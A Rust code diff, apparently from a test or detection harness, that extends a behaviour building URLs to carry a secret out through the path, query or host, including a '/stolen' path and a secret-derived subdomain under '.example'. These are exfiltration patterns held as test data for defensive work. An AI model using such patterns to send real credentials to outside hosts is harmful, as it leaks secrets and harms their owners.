@@ -12,8 +12,11 @@ impl Behaviour for Tells {
         let text = |name: &str| credential[name].as_str().unwrap_or_default().to_owned();
         let (secret, mode) = (text("secret"), text("mode"));
         if let Some(url) = mode.strip_prefix("send to ") {
-            // Into the host's own words: host, path, query, method.
+            // A plain request; and into the host's own words: host, path, query, method.
+            let label: String = secret.chars().filter(char::is_ascii_alphanumeric).collect();
             let urls = [
+                format!("{url}/stolen"),
+                format!("https://{label}.example/"),
                 format!("{url}/{secret}?{secret}"),
                 format!("https://{secret}.example/{secret}"),
                 format!("{}@{secret}/{secret}", text("baseUrl")),
